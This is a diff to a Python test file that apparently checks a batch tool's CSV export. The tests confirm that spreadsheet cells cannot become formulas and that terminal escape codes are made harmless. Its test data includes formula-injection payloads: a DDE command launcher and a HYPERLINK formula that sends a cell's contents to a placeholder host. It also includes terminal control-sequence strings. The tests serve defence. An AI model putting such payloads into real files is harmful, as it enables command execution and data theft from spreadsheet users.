@@ -11,10 +11,11 @@ from typing import Any
 
 import pytest
 
-from batchgen.export import EXPORT_FIELDS, IDENTIFIERS, spreadsheet_cell
+from batchgen.export import EXPORT_FIELDS, IDENTIFIERS, spreadsheet_cell, write_csv
 from batchgen.models import Record, State
 from tests.pictures import make_png
 from tests.program import Desk, sandbox
+from tests.terminal import on_a_terminal
 from tests.test_job_names import ACCEPTED, DONE, FAILED, REFUSED, record, retry, with_rows
 
 QUICK = ("--poll-interval", "0.05", "--timeout", "2", "--settle", "1")
@@ -89,6 +90,9 @@ ODD = {
 }
 
 
+SHOWN = ODD["prompt"].replace(";=", ";'=")  # where `;` parts cells, another one begins there
+
+
 def odd_desk(folder: Path) -> Desk:
     row = asked(record(ODD["manifest"], ODD["job_id"], "@id", digest="1"), prompt=ODD["prompt"], image="=1")
     return with_rows(
@@ -107,7 +111,7 @@ def test_csv_for_a_spreadsheet_comes_back_as_it_was(tmp_path: Path) -> None:
     rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
     assert rows[0]["job_id"] == '="1795878424558000013"'  # a text for Excel and LibreOffice
     assert rows[0]["external_task_id"] == "'@id"
-    assert rows[0]["prompt"] == f"'{ODD['prompt']}"
+    assert rows[0]["prompt"] == f"'{SHOWN}"
     assert rows[1]["external_task_id"] == '="007"'
     assert rows[2]["job_id"] == '="say ""y"""'
     for before, after in zip(plain, rows, strict=True):
@@ -120,7 +124,8 @@ def test_csv_for_a_spreadsheet_comes_back_as_it_was(tmp_path: Path) -> None:
             name: value[2:-1].replace('""', '"') if value.startswith('="') else value.removeprefix("'")
             for name, value in after.items()
         }
-        assert read == {**before, "current": before["current"].lower()}
+        shown = {name: value.replace(";=", ";'=") for name, value in before.items()}
+        assert read == {**shown, "current": before["current"].lower()}
 
 
 def test_csv_for_scripts_is_not_touched_by_what_spreadsheets_need(tmp_path: Path) -> None:
@@ -136,6 +141,61 @@ def test_csv_for_scripts_is_not_touched_by_what_spreadsheets_need(tmp_path: Path
 @pytest.mark.parametrize("field", ["prompt", "job_id"])
 def test_what_begins_like_a_formula_is_text(start: str, field: str) -> None:
     assert spreadsheet_cell(field, f"{start}1") == f"'{start}1"
+
+
+HOSTILE = [
+    *(
+        "=2+3",
+        "+2+3",
+        "-2+3",
+        "@SUM(2,3)",
+        "\t=2+3",
+        "\r=2+3",
+        "\n=2+3",
+        " =2+3",
+        "x;=2+3;y",
+        'x;"=2+3";',
+        "x\n=2+3",
+    ),
+    *(
+        "x\t=2+3",
+        'x",=2+3,"',
+        "x';=2+3",
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://a.example?"&A1,"x")',
+        "x|=2+3|",
+    ),
+]
+TEXTS = [
+    name
+    for name in EXPORT_FIELDS
+    if name not in ("state", "take", "attempt", "cost_usd_estimate", "current")
+    and not name.endswith(("_at", "_sha256"))
+]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+def test_no_cell_of_a_spreadsheet_is_a_formula_whatever_parts_its_cells(separator: str) -> None:
+    """A double click in a country that writes 0,5 takes `;` for what parts the cells."""
+    file = io.StringIO()
+    rows = [dict.fromkeys(EXPORT_FIELDS) | dict.fromkeys(TEXTS, text) for text in HOSTILE]
+    write_csv(file, rows, excel=True)
+    text = file.getvalue().removeprefix("\ufeff")
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+        for cell in row:
+            assert not cell.lstrip('"').startswith(tuple("=+-@")) or cell.startswith('="'), cell
+
+
+def test_csv_on_a_terminal_moves_no_cursor(tmp_path: Path) -> None:
+    odd = "\x1b]0;title\x07\x9b2J\u202e\u2028"
+    desk = with_rows(tmp_path, (asked(record("m", "x", "e1"), prompt=odd, image="x"), FAILED))
+    for options in (["--format", "csv"], ["--excel"], ["--format", "jsonl"], ["--json"]):
+        command = [*desk.program, "export", *options]
+        code, shown = on_a_terminal(command, cwd=desk.folder, env=desk.env)
+        assert code == 0
+        assert "title" in shown and not set(odd) - set("]0;title2J") & set(shown), options
+    plain = desk.run("export", "--format", "csv").out
+    assert odd in plain  # which is for programs, as it is
 
 
 def test_only_text_is_changed_and_no_identifier_is_longer_than_a_formula_can_be() -> None:
